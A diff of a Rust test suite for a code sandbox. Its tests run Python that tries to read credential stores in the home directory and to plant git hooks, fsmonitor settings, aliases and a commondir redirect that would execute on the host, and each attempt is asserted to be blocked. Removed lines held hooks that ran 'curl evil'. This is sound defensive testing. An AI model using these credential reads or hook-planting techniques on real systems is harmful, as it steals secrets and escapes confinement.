@@ -183,6 +183,99 @@ attempt('dirsymlink', lambda: open('dirlink/credentials').read())
     }
 }
 
+/// Reads `path` and raises unless it yields something: an empty listing counts as blocked.
+const READ_ANY: &str = r#"
+def read_any(p):
+    if os.path.isdir(p):
+        names = os.listdir(p)
+        if not names:
+            raise Exception('empty')
+        return names
+    return open(p).read()
+"#;
+
+#[test]
+fn home_is_default_deny_for_stores_on_no_list_and_ones_created_later() {
+    let env = Env::new();
+    let h = env.home();
+    // Stores no hidden list has ever named, and one that is on none today.
+    for (p, text) in [
+        (".config/git/credentials", "SECRET-GIT"),
+        (".claude/.credentials.json", "SECRET-CLAUDE"),
+        (".pgpass", "SECRET-PG"),
+        ("notes/bank.txt", "SECRET-NOTES"),
+        (".bash_history", "SECRET-HIST"),
+    ] {
+        std::fs::create_dir_all(h.join(p).parent().unwrap()).unwrap();
+        std::fs::write(h.join(p), text).unwrap();
+    }
+    for s in supports() {
+        let go = env.ws().join("go");
+        let _ = std::fs::remove_file(&go);
+        let _ = std::fs::remove_dir_all(h.join(".kube"));
+        // The attacker waits until the test has created a new store on the host, then reads it.
+        let code = format!(
+            "{ATTEMPT}{READ_ANY}
+import time
+h = {home:?}
+for p in ['.config/git/credentials', '.claude/.credentials.json', '.pgpass', 'notes/bank.txt',
+          '.bash_history', '.config', 'notes', '']:
+    attempt('read:' + p, lambda: read_any(h + '/' + p))
+attempt('other_homes', lambda: [n for n in os.listdir('/home') if os.listdir('/home/' + n)] or read_any('/nonexistent'))
+attempt('root_home', lambda: read_any('/root'))
+print('READY', flush=True)
+while not os.path.exists('go'):
+    time.sleep(0.05)
+attempt('later:kube', lambda: read_any(h + '/.kube/config'))
+attempt('later:dir', lambda: read_any(h + '/.kube'))
+",
+            home = h.to_str().unwrap()
+        );
+        let mut child = cmd(&env, &env.policy(), &s, PY, &["-c", &code])
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit())
+            .spawn()
+            .unwrap();
+        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
+        let mut out = String::new();
+        for line in lines.by_ref() {
+            let line = line.unwrap();
+            out.push_str(&line);
+            out.push('\n');
+            if line == "READY" {
+                break;
+            }
+        }
+        std::fs::create_dir_all(h.join(".kube")).unwrap();
+        std::fs::write(h.join(".kube/config"), "SECRET-KUBE").unwrap();
+        std::fs::write(&go, "").unwrap();
+        for line in lines {
+            out.push_str(&line.unwrap());
+            out.push('\n');
+        }
+        child.wait().unwrap();
+        eprintln!("{out}");
+        assert!(!out.contains("SECRET"), "{out}");
+        assert_blocked(
+            &out,
+            &[
+                "read:.config/git/credentials",
+                "read:.claude/.credentials.json",
+                "read:.pgpass",
+                "read:notes/bank.txt",
+                "read:.bash_history",
+                "read:.config",
+                "read:notes",
+                "read:",
+                "other_homes",
+                "root_home",
+                "later:kube",
+                "later:dir",
+            ],
+        );
+    }
+}
+
 #[test]
 fn writes_outside_workspace_fail_inside_succeed() {
     let env = Env::new();
@@ -335,87 +428,108 @@ print('RAN')
     }
 }
 
+/// Runs host git in `dir` the way a user would afterwards, with a clean environment.
+fn host_git(dir: &Path, args: &[&str]) -> Output {
+    Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+        .env("HOME", dir)
+        .env("GIT_AUTHOR_NAME", "t")
+        .env("GIT_AUTHOR_EMAIL", "t@example.org")
+        .env("GIT_COMMITTER_NAME", "t")
+        .env("GIT_COMMITTER_EMAIL", "t@example.org")
+        .output()
+        .expect("git")
+}
+
 #[test]
-fn git_hooks_and_config_stay_read_only() {
+fn git_cannot_be_redirected_or_given_hooks() {
     // Only the namespace mode protects these (the fallback plan says so in its notes).
     let Some(s) = ns_support() else { return };
     let env = Env::new();
-    let code = format!(
-        "{ATTEMPT}
-attempt('hook', lambda: open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil'))
-attempt('config', lambda: open('.git/config', 'a').write('[core]\\nhooksPath=/x'))
-attempt('rename_git', lambda: os.rename('.git', '.git-old'))
-attempt('rename_hooks', lambda: os.rename('.git/hooks', '.git/h2'))
-attempt('rmtree_git', lambda: __import__('shutil').rmtree('.git'))
-open('.git/HEAD', 'w').write('ref: refs/heads/main\\n'); print('GIT_WRITE_OK')
-open('other.txt', 'w').write('fine'); print('WS_OK')
-"
-    );
-    let out = py(&env, &env.policy(), &s, &code);
-    assert_blocked(
-        &out,
-        &["hook", "config", "rename_git", "rename_hooks", "rmtree_git"],
-    );
-    assert!(
-        out.contains("GIT_WRITE_OK") && out.contains("WS_OK"),
-        "{out}"
-    );
-    assert!(!env.ws().join(".git/hooks/pre-commit").exists());
-
-    // A submodule's git dir, a nested one, and a repository one directory down: git runs their
-    // hooks too when the user works there later.
-    for d in [
-        ".git/modules/lib",
-        ".git/modules/libs/deep",
-        ".git/modules/lib/modules/inner",
-        "sub/.git",
-    ] {
-        std::fs::create_dir_all(env.ws().join(d).join("hooks")).unwrap();
-        std::fs::write(env.ws().join(d).join("config"), "[core]\n").unwrap();
+    let ws = env.ws();
+    // Real repositories: the workspace's own, one two levels down, and a worktree-style `.git` file.
+    std::fs::remove_dir_all(ws.join(".git")).unwrap();
+    for dir in [ws.to_path_buf(), ws.join("a/b")] {
+        std::fs::create_dir_all(&dir).unwrap();
+        let out = host_git(&dir, &["init", "-q"]);
+        assert!(out.status.success(), "{out:?}");
+        let out = host_git(&dir, &["commit", "-q", "--allow-empty", "-m", "init"]);
+        assert!(out.status.success(), "{out:?}");
     }
+    std::fs::create_dir_all(ws.join("linked")).unwrap();
+    std::fs::write(ws.join("linked/.git"), "gitdir: ../a/b/.git\n").unwrap();
+    let marker = env.home().join("HOOK-RAN");
+    let m = marker.display();
     let code = format!(
         "{ATTEMPT}
-for i, d in enumerate(['.git/modules/lib', '.git/modules/libs/deep', '.git/modules/lib/modules/inner', 'sub/.git']):
-    attempt('hook%d' % i, lambda: open(d + '/hooks/post-checkout', 'w').write('#!/bin/sh\\ncurl evil'))
-    attempt('config%d' % i, lambda: open(d + '/config', 'a').write('[core]\\nfsmonitor=evil'))
-open('sub/file.txt', 'w').write('fine'); print('SUB_OK')
+import shutil
+hook = '#!/bin/sh\\ntouch {m}\\n'
+def plant(path, text, mode=0o755):
+    open(path, 'w').write(text)
+    os.chmod(path, mode)
+def redirect():
+    # The red team's route: a copy of the repository with a hook and fsmonitor, then commondir.
+    shutil.copytree('.git', '.cache/g', ignore=shutil.ignore_patterns('hooks', 'config'))
+    os.makedirs('.cache/g/hooks')
+    plant('.cache/g/hooks/pre-commit', hook)
+    plant('.cache/g/config', '[core] fsmonitor = touch {m}\\n', 0o644)
+    open('.git/commondir', 'w').write('../.cache/g\\n')
+attempt('commondir', redirect)
+attempt('hook', lambda: plant('.git/hooks/pre-commit', hook))
+attempt('config', lambda: open('.git/config', 'a').write('[core] fsmonitor = touch {m}\\n'))
+attempt('config_worktree', lambda: plant('.git/config.worktree', '[core]\\nhooksPath=/tmp\\n', 0o644))
+attempt('info', lambda: plant('.git/info/attributes', '* filter=x\\n', 0o644))
+attempt('worktrees', lambda: os.makedirs('.git/worktrees/x'))
+attempt('head', lambda: open('.git/HEAD', 'w').write('ref: refs/heads/evil\\n'))
+attempt('rename_git', lambda: os.rename('.git', '.git-old'))
+attempt('rmtree_git', lambda: shutil.rmtree('.git'))
+attempt('nested_hook', lambda: plant('a/b/.git/hooks/post-checkout', hook))
+attempt('nested_config', lambda: open('a/b/.git/config', 'a').write('[alias]\\n st = !touch {m}\\n'))
+attempt('rename_parent', lambda: os.rename('a', 'a2'))
+attempt('rename_nested', lambda: os.rename('a/b', 'a/c'))
+attempt('gitdir_file', lambda: open('linked/.git', 'w').write('gitdir: ../.cache/g\\n'))
+attempt('gitdir_file_rm', lambda: os.unlink('linked/.git'))
+open('a/b/work.txt', 'w').write('fine'); print('WS_OK')
 "
     );
     let out = py(&env, &env.policy(), &s, &code);
     assert_blocked(
         &out,
         &[
-            "hook0", "config0", "hook1", "config1", "hook2", "config2", "hook3", "config3",
+            "commondir",
+            "hook",
+            "config",
+            "config_worktree",
+            "info",
+            "worktrees",
+            "head",
+            "rename_git",
+            "rmtree_git",
+            "nested_hook",
+            "nested_config",
+            "rename_parent",
+            "rename_nested",
+            "gitdir_file",
+            "gitdir_file_rm",
         ],
     );
-    assert!(out.contains("SUB_OK"), "{out}");
-    assert_eq!(
-        std::fs::read_to_string(env.ws().join(".git/config")).unwrap(),
-        "[core]\n"
+    assert!(out.contains("WS_OK"), "{out}");
+    // The user's next git commands on the host run nothing the sandbox planted.
+    for dir in [ws.to_path_buf(), ws.join("a/b"), ws.join("linked")] {
+        let st = host_git(&dir, &["status", "--short"]);
+        assert!(st.status.success(), "{}: {st:?}", dir.display());
+        let c = host_git(&dir, &["commit", "-q", "--allow-empty", "-m", "after"]);
+        assert!(c.status.success(), "{}: {c:?}", dir.display());
+        let _ = host_git(&dir, &["st"]);
+    }
+    assert!(
+        !marker.exists(),
+        "a hook or setting planted in the sandbox ran on the host"
     );
-    assert!(env.ws().join(".git/hooks").is_dir());
-
-    // A repository without a hooks directory or a config (some tools create them so): code must
-    // not be able to create them either.
-    let bare = env.ws().join("bare");
-    std::fs::create_dir_all(bare.join(".git/objects")).unwrap();
-    std::fs::write(bare.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
-    let code = format!(
-        "{ATTEMPT}
-def plant_hook():
-    os.makedirs('bare/.git/hooks', exist_ok=True)
-    open('bare/.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil')
-attempt('missing_hooks', plant_hook)
-attempt('missing_config', lambda: open('bare/.git/config', 'a').write('[core]\\nfsmonitor=evil'))
-"
-    );
-    let out = py(&env, &env.policy(), &s, &code);
-    assert_blocked(&out, &["missing_hooks", "missing_config"]);
-    assert!(!bare.join(".git/hooks/pre-commit").exists());
-    assert_eq!(
-        std::fs::read_to_string(bare.join(".git/config")).unwrap_or_default(),
-        ""
-    );
+    assert!(!ws.join(".git/commondir").exists());
 }
 
 #[test]
